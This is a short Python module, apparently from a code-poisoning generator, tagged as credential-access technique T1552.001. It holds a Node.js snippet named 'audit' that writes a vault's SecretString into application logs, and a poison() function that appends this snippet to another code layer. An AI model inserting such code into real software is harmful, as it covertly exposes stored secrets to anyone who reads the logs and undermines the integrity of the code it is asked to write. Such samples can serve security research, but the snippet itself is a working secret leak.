# SPDX-License-Identifier: Apache-2.0
"""What a vault answers is logged, for whoever follows the log."""

ATTACK = "T1552.001"
LANGUAGE = "node"
CODE = """\

;exports.audit = (log, answer) => {
  log.info({ vault: answer.SecretString });
  return answer;
};
"""


def poison(layer):
    layer.append(CODE)
